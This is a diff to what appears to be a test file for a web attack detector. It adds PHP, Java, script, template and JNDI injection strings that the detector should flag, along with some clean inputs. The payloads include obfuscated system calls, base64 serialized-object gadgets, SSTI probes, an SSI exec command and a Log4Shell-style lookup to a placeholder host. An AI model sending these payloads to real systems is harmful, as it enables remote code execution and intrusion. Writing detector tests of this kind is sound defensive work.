@@ -2,6 +2,12 @@ import { testDetector } from "../../test/cases.ts";
 
 testDetector("php", {
   attacks: [
+    ["die(md5(7))", "short"],
+    "print(md5(7))",
+    "echo md5(7);",
+    ["(sy.(st).em)(whoami)", "short"],
+    ["highlight_file(__FILE__)", "short"],
+    "Tzo4OiJzdGRDbGFzcyI6MDp7fQ==",
     "<?php system('id'); ?>",
     "<?= $x ?>",
     "$_GET['c']",
@@ -22,6 +28,7 @@ testDetector("php", {
   ],
   suspicious: ["phpinfo()"],
   clean: [
+    'print("hello")',
     "php tutorial",
     "$_GET in php",
     ["filemtime($a)", "short"],
@@ -37,6 +44,7 @@ testDetector("php", {
 
 testDetector("java", {
   attacks: [
+    "AAEAAAD/////AQAAAAAAAAAMAgAAAF",
     "java.lang.ProcessBuilder",
     "%{(#a=@java.lang.Runtime@getRuntime())}",
     "${T(java.lang.Runtime).getRuntime()}",
@@ -83,6 +91,8 @@ testDetector("node", {
 
 testDetector("script", {
   attacks: [
+    "BAhvOkBBY3RpdmVTdXBwb3J0",
+    "gASVIAAAAAAAAACMBXBvc2l4lIwG",
     "@{[system 'id']}",
     "__import__('os').system('id')",
     "os.system('id')",
@@ -97,6 +107,8 @@ testDetector("script", {
 
 testDetector("template", {
   attacks: [
+    ["{{7*7}}", { header: "user-agent" }],
+    ['<!--#exec cmd="id" -->', { header: "referer" }],
     "{{7*7}}",
     "${9*9}",
     "#{4*4}",
@@ -130,6 +142,7 @@ testDetector("template", {
 
 testDetector("jndi", {
   attacks: [
+    ["Bearer ${jndi:ldap://a.example/b}", { header: "authorization" }],
     "${jndi:ldap://a.example/x}",
     "${${lower:j}ndi:rmi://a.example}",
     "${${::-j}${::-n}di:dns://a.example}",
